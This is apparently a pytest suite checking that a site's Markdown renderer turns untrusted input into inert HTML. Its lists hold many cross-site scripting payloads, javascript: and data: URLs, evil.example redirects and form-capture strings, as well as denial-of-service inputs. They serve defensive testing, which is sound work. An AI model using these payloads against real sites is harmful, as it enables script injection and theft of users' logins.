"""Markdown becomes HTML that a browser can only read: no script, no form, no picture."""

import re
import resource
import subprocess
import sys
from pathlib import Path

import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.http.page import Element, Page
from website.text.markdown import render
from website.text.markdown.guards import MAX_COLUMNS, MAX_FOOTNOTES, MAX_QUOTE_DEPTH

ROOT = Path(__file__).parents[2]

# Written out here and not imported: what the sanitiser lets through is held to this list.
PLAIN = {
    "blockquote", "br", "code", "del", "em", "hr", "strong", "table", "tbody", "thead", "tr", "ul",
}  # fmt: skip
MATHML = {
    "math", "merror", "mfrac", "mi", "mmultiscripts", "mn", "mo", "mover", "mpadded", "mphantom",
    "mprescripts", "mroot", "mrow", "ms", "mspace", "msqrt", "mstyle", "msub", "msubsup", "msup",
    "mtable", "mtd", "mtext", "mtr", "munder", "munderover",
}  # fmt: skip
MATHML_ATTRIBUTES = {
    "accent", "accentunder", "class", "columnspan", "depth", "display", "displaystyle", "fence",
    "form", "height", "largeop", "linethickness", "lspace", "mathvariant", "maxsize", "minsize",
    "movablelimits", "rowspan", "rspace", "scriptlevel", "separator", "stretchy", "symmetric",
    "voffset", "width",
}  # fmt: skip
ALLOWED: dict[str, set[str]] = {
    **{tag: set() for tag in PLAIN},
    **dict.fromkeys(MATHML, MATHML_ATTRIBUTES),
    **{f"h{level}": {"id"} for level in range(2, 7)},
    "a": {"href", "title", "rel", "id", "class", "aria-label"},
    "div": {"class", "tabindex"},
    "li": {"id"},
    "section": {"aria-label", "class"},
    "span": {"class", "tabindex"},
    "sup": {"class"},
    "input": {"type", "checked", "disabled", "aria-label"},
    "ol": {"start"},
    "p": {"class"},
    "pre": {"tabindex"},
    "td": {"align"},
    "th": {"align"},
}
_BLANKS = "".join(map(chr, range(0x21)))


def harmless(element: Element) -> None:
    """An element that a note may make."""
    assert element.tag in ALLOWED, element
    assert set(element.attributes) <= ALLOWED[element.tag], element
    if element.tag == "a" and "href" in element.attributes:
        # As a browser reads an address: blanks around it and line ends in it do not count.
        href = re.sub(r"[\t\n\r]", "", element.attributes["href"]).strip(_BLANKS)
        scheme = re.match(r"[a-z][a-z0-9+.-]*(?=:)", href, re.I)
        assert scheme is None or scheme[0].lower() in {"http", "https", "mailto"}, href
        assert not re.match(r"[/\\]{2}", href), href
        assert {"noopener", "nofollow"} <= set(element.attributes["rel"].split())
    if element.tag == "input":
        assert element.attributes["type"] == "checkbox"
        assert "disabled" in element.attributes
    assert element.attributes.get("tabindex", "0") == "0", element
    # No id but ours, which begin as nothing else on a page does.
    assert re.match(r"h-|fn-|fnref-|$", element.attributes.get("id", "")), element
    for name in element.attributes.get("class", "").split():
        known = {"scrolls", "formula", "footnotes", "footnote-ref", "footnote-backref"}
        code = element.tag == "span" and len(name) <= 3
        cell = element.tag == "mtd" and name in {"left", "right"}
        assert name.startswith("markdown-alert") or name in known or code or cell, element


def rendered(source: str) -> Page:
    page = Page(render(source))
    for element in page.elements:
        harmless(element)
    return page


def tags(source: str) -> list[str]:
    return [element.tag for element in rendered(source).elements]


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("plain *em* **strong** ~~gone~~ `code`", "<p>plain <em>em</em> <strong>strong</strong> "
         "<del>gone</del> <code>code</code></p>\n"),
        ("###### Six",
         '<h6 id="h-six"><a href="#h-six" rel="noopener nofollow ugc">Six</a></h6>\n'),
        ("- [ ] a\n- [x] b",
         '<ul>\n<li><input type="checkbox" disabled="" aria-label="a"> a</li>\n'
         '<li><input type="checkbox" checked="" disabled="" aria-label="b"> b</li>\n</ul>\n'),
        ("3. three", '<ol start="3">\n<li>three</li>\n</ol>\n'),
        ("[a](https://b.org \"t\")",
         '<p><a href="https://b.org" title="t" rel="noopener nofollow ugc">a</a></p>\n'),
        ("![alt](https://b.org/i.png)",
         '<p><a href="https://b.org/i.png" rel="noopener nofollow ugc">alt</a></p>\n'),
        ("> [!NOTE]\n> mind",
         '<div class="markdown-alert markdown-alert-note">\n'
         '<p class="markdown-alert-title">Note</p>\n<p>mind</p>\n</div>\n'),
        ("これは**「強い」**です", "<p>これは<strong>「強い」</strong>です</p>\n"),
        ("", ""),
    ],
    ids=lambda text: text[:20],
)  # fmt: skip
def test_markdown_is_what_one_expects(source: str, html: str) -> None:
    assert render(source) == html


def test_a_table_keeps_its_alignment() -> None:
    page = rendered("| a | b |\n|:-:|--:|\n| 1 | 2 |")
    cells = [(e.tag, e.attributes["align"]) for e in page.elements if e.tag in {"td", "th"}]
    assert cells == [("th", "center"), ("th", "right"), ("td", "center"), ("td", "right")]


def test_an_image_without_words_shows_its_address() -> None:
    assert "https://b.org/i.png" in rendered("![](https://b.org/i.png)").words


SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<details open ontoggle=alert(1)>",
    "<a style=position:fixed;inset:0 href=//evil.example>x</a>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--><script>alert(1)</script>-->",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=password><button>x",
    "<style>@import '//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<body onload=alert(1)>",
    "<div\n\nonclick=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title=\"--&gt;&lt;img src=1 onerror=1&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<a id=x name=y>x</a>",
    "<img name=getElementById>",
    "<p id=config name=body>",
    "<textarea></textarea><plaintext>",
    "<x:script xmlns:x=http://www.w3.org/1999/xhtml>alert(1)</x:script>",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
    "<script\x0b>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
]  # fmt: skip


@pytest.mark.attack(71, 75, 76, 82)
@pytest.mark.parametrize("script", SCRIPTS, ids=range(len(SCRIPTS)))
def test_html_is_shown_as_text(script: str) -> None:
    around = ("{}", "a {} b", "# {}", "- {}", "> {}", "| {} |\n|-|\n| {} |", "**{}**", "[{}](/x)",
              "    {}", "```\n{}\n```", "`{}`", "![{}](/x)", "[a](/x '{}')", "[a]: {}\n\n[a]",
              "- [ ] {}", "> [!NOTE]\n> {}", "<div>\n\n{}\n\n</div>", "{}\n===")  # fmt: skip
    for shape in around:
        page = rendered(shape.replace("{}", script))
        for element in page.elements:
            for value in element.attributes.values():
                # No text gets out of an attribute into the tag around it.
                assert "onerror" not in element.attributes, value
    if script.isprintable() and "alert" in script:
        assert "alert" in rendered(script).words


@pytest.mark.attack(75)
@pytest.mark.parametrize("script", SCRIPTS, ids=range(len(SCRIPTS)))
def test_a_second_cleaning_finds_nothing_new(script: str) -> None:
    once = render(f'{script}\n\n[{script}](/x "{script.replace(chr(34), "")}")')
    attributes = {tag: names - {"rel"} for tag, names in ALLOWED.items()}
    again = nh3.clean(once, tags=set(ALLOWED), attributes=attributes, link_rel="noopener")
    assert [e.shape for e in Page(again).elements] == [e.shape for e in Page(once).elements]


UNSAFE = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)",
    "&#1;javascript:alert(1)", "\x01javascript:alert(1)", "%6aavascript:alert(1)",
    "javascript&#58;alert(1)", "javascript&#x3A;alert(1)", "&#x6A&#x61vascript:alert(1)",
    "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHN",
    "data:image/svg+xml;base64,PHN2Zz4=", "data:image/png;base64,iVBORw0KGgo=", "data:,x",
    "blob:https://evil.example/x", "about:blank", "filesystem:https://evil.example/x",
    "tel:+491234", "file:///etc/passwd", "ftp://evil.example", "ws://evil.example", "sms:1",
    "view-source:x", "intent://x#Intent;end", "x-octavo:y", "feed:javascript:alert(1)",
    "//evil.example", "///evil.example", "\\\\\\\\evil.example", "/\\\\evil.example",
    "/&#9;/evil.example", "&#9;//evil.example", "&#x5c;&#x5c;evil.example", "/&#92;evil.example",
    "&sol;&sol;evil.example", "&#32;//evil.example", "&#32;javascript:alert(1)",
]  # fmt: skip


@pytest.mark.attack(72, 73)
@pytest.mark.parametrize("address", UNSAFE)
def test_an_unsafe_address_is_no_link(address: str) -> None:
    for source in (
        f"[x]({address})", f"[x](<{address}>)", f"<{address}>", f"[x]: {address}\n\n[x]",
        f"![x]({address})", f"![x](<{address}> 'title')", f"[![x]({address})]({address})",
        f"[x]: <{address}>\n\n![x]", f"[x]({address} \"a\")", address,
    ):  # fmt: skip
        for element in rendered(source).elements:
            # What looks like an address of the Web within it may be a link to there, and says so.
            href = element.attributes.get("href", "")
            assert not href.startswith(("javascript", "vbscript", "data", "blob")), (source, href)


@pytest.mark.attack(73)
def test_the_addresses_that_are_links() -> None:
    for address in (
        "https://b.org/?a=1&b=2#c", "http://b.org", "mailto:a@b.org", "/notes", "#part", "?q=x",
        "notes/other", "HTTPS://B.ORG", "https://b.org/%22onclick=x",
    ):  # fmt: skip
        (link,) = [e for e in rendered(f"[x]({address})").elements if e.tag == "a"]
        assert link.attributes["href"] == address


@pytest.mark.attack(74)
@pytest.mark.parametrize(
    "source",
    [
        '```"><script>alert(1)</script>\nx\n```',
        '``` x" onclick=alert(1) y="\nx\n```',
        '~~~ {.a onclick="x"}\nx\n~~~',
        '[a](/x "\\"><script>alert(1)</script>")',
        "[a](/x '\" onmouseover=alert(1) x=\"')",
        '![" onerror=alert(1) x="](/x)',
        '![a" src="//evil.example](/x "t\\" onload=1")',
        '<https://b.org/"onclick="alert(1)>',
        'https://b.org/"onclick="alert(1)',
        "www.b.org/'onclick='alert(1)",
        '[a](</x" onclick="alert(1)>)',
        '[a](/x" onclick="y)',
        '![`"><b>`](/x)',
        '![a](/x)<img src="x" alt="y" />',
        '&lt;img src="x" alt="y" /&gt;',
        '`<img src="x" alt="y" />`',
        '    <a href="//evil.example">',
        '[\\<img src="a" alt="b" /\\>](/x)',
        '![<img src="//evil.example" alt="x" />](/y)',
        "<h1>not ours</h1>",
    ],
)
def test_a_quote_ends_no_attribute(source: str) -> None:
    for element in rendered(source).elements:
        for name in element.attributes:
            assert not name.startswith("on"), (source, element)


@pytest.mark.attack(76)
def test_no_heading_and_no_footnote_takes_a_name_that_the_page_uses() -> None:
    for source in ("# config", "# body\n\n# body", "[x](#body){#config}", "[^a]\n\n[^a]: x"):
        for element in rendered(source).elements:
            assert not {"name", "form"} & set(element.attributes)
            assert element.attributes.get("id") not in {"config", "body", "main", "tasks"}


@pytest.mark.attack(77)
@pytest.mark.parametrize("template", ["{{7*7}}", "{% raw %}", "${7*7}", "#{7*7}", "{0.class}"])
def test_a_template_is_text(template: str) -> None:
    assert template in rendered(f"a {template} b").words
    assert "49" not in rendered(template).words


@pytest.mark.attack(71, 74)
@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "<", ">", "\"", "'", "`", "```", "[", "]", "(", ")", "!", "*", "_", "~", "|", "-",
                "#", "\n", "\n\n", "    ", "&", "&lt;", "&#106;", "\\", "/", ":", "javascript:",
                "http://", "www.", "a@b.c", "<img src=\"", "\" alt=\"", "\" />", "<a href=\"",
                "<h1>", "<input type=\"checkbox\" disabled=\"\" />", "onclick=", "x", " ", "> ",
                "[!NOTE]", "- [ ] ", "$", "$$", "[[", "]]", "[^a]", "[^a]: ",
                "```math\n", "<!--", "-->", "<script>", "\x0b", "\u2028", "\ufffd",
            ]
        ),
        max_size=25,
    ).map("".join)
)  # fmt: skip
def test_nothing_made_of_marks_gets_through(source: str) -> None:
    rendered(source)


@pytest.mark.attack(87)
def test_what_would_be_drawn_too_deep_or_too_wide_is_plain_text() -> None:
    for source in (
        ">" * MAX_QUOTE_DEPTH + " <b>",
        "a|" * MAX_COLUMNS + "\n" + "-|" * MAX_COLUMNS,
        "a@b.c " * 20_000,
        "&" * 200_000,
        "[^a]" * (MAX_FOOTNOTES + 1),
        "*a **a" * 16_700,
        "a\n\n" + "~~a ~a" * 16_700,
        "a|" * 400 + "\n" + "-|" * 400 + "\n" + "|x\n" * 20_000,
    ):
        page = rendered(source)
        assert "shown as plain text" in page.words
        assert page.pre == [source]
    assert "plain text" not in rendered("> " * (MAX_QUOTE_DEPTH - 1) + "deep").words


@pytest.mark.parametrize(
    "source",
    [
        "```json\n" + '{"key": "value"},\n' * 20_000 + "```",
        "A line of words.\n" * 30_000 + "\n| a | b | c |\n|---|---|---|\n| 1 | 2 | 3 |\n",
        "a | b | c | d | e | f | g | h | i | j | k | l | m | n | o | p | q | r\n\n"
        + "x\n" * 50_000,
        "**a** and *b*\n\n" * 20_000,
        'He said “no” & she said "yes".\n\n' * 20_000,
    ],
    ids=["code", "prose and a table", "bars and prose", "bold and italic", "speech"],
)
def test_an_ordinary_long_note_is_drawn(source: str) -> None:
    assert "shown as plain text" not in rendered(source).words[:200]


# The longest notes, made to be slow or to grow; each as a Python expression, for another process.
HEAVY = {
    "references to a long address": "'[a]: /' + 'x' * 50_000 + '\\n\\n' + '[a] ' * 230_000",
    "brackets": "'[' * 1_000_000",
    "images": "'![' * 500_000",
    "emphasis": "'**a *a ' * 140_000",
    "emphasis within words": "('*a **a' * 16_600 + '\\n\\n') * 10",
    "links never closed": "'[a](' * 250_000",
    "runs of backticks": "''.join('`' * n + ' ' for n in range(1, 1_400))",
    "setext": "'a\\n' * 250_000 + '==='",
    "tags": "'<a ' * 330_000",
    "quotes": "'>' * 1_000_000",
    "quotes in quotes": "('>' * 99 + 'a\\n\\n') * 9_900",
    "quotes and lists": "'> - ' * 250_000",
    "lists in lists": "''.join('  ' * n + '- a\\n' for n in range(1, 990))",
    "numbered lists": "'1. ' * 330_000",
    "links in links": "'[' * 100_000 + 'a' + '](x)' * 100_000",
    "ampersands": "'&' * 1_000_000",
    "less-than signs": "'<' * 1_000_000",
    "addresses of mail": "'a@b.c ' * 166_000",
    "addresses of pages": "'www.a.b ' * 125_000",
    "a wide table": "'a|' * 600 + '\\n' + '-|' * 600",
    "footnotes": "'[^a] ' * 1_999 + '\\n\\n[^a]: x'",
    "too many footnotes": "'[^a] ' * 200_000 + '\\n\\n[^a]: x'",
    "one heading often": "'# a\\n' * 250_000",
    "wiki links": "'[[a]]' * 200_000",
    "wiki links never closed": "'[[' * 500_000",
    "dollars": "'$' * 1_000_000",
    "dollars and words": "'$x ' * 333_000",
    "formulas": "'$x$ ' * 250_000",
    "a formula too deep": "'$' + '{' * 1_999 + '$ '",
    "formulas that would grow": "('$' + chr(39) * 1_990 + 'x$ ') * 400",
    "task boxes": "'- [ ] a\\n' * 125_000",
    "code": "'```python\\n' + 'x = [1, (2,\\n' * 80_000",
    "code in many blocks": "'```c\\nint x;\\n```\\n' * 50_000",
    "a table of short rows": ("'|' + 'a|' * 100 + '\\n|' + '-|' * 100 + '\\n' + '|x\\n' * 300_000"),
    "many small tables": "('a|b\\n-|-\\n' + '1\\n' * 50 + '\\n') * 9_000",
}
_MEASURE = """
import resource, sys, types
from time import process_time
# The room alone: the whole site would take longer to load than most notes to render.
website = sys.modules["website"] = types.ModuleType("website")
website.__path__ = ["website"]
from website.text import markdown
source = eval(sys.argv[1])
assert len(source.encode()) <= 1_050_000
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
began = process_time()
html = markdown.render(source)
spent = process_time() - began
grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
print(spent, len(html) / len(source), grown / 1024)
"""
SECONDS, GROWTH, MEGABYTES = 8, 14, 500


def _bounded() -> None:
    # What goes wrong here must not take the test run's machine with it.
    resource.setrlimit(resource.RLIMIT_CPU, (10, 10))
    resource.setrlimit(resource.RLIMIT_AS, (2_000_000_000, 2_000_000_000))


@pytest.mark.attack(85, 86, 87, 88)
@pytest.mark.parametrize("source", HEAVY.values(), ids=HEAVY)
def test_no_note_is_slow_to_render_or_grows_without_bounds(source: str) -> None:
    done = subprocess.run(
        [sys.executable, "-c", _MEASURE, source], cwd=ROOT, capture_output=True, text=True,
        preexec_fn=_bounded, check=False,
    )  # fmt: skip
    assert done.returncode == 0, f"exit {done.returncode}: {done.stderr[-300:]}"
    spent, growth, megabytes = map(float, done.stdout.split())
    assert spent < SECONDS
    assert growth < GROWTH
    assert megabytes < MEGABYTES
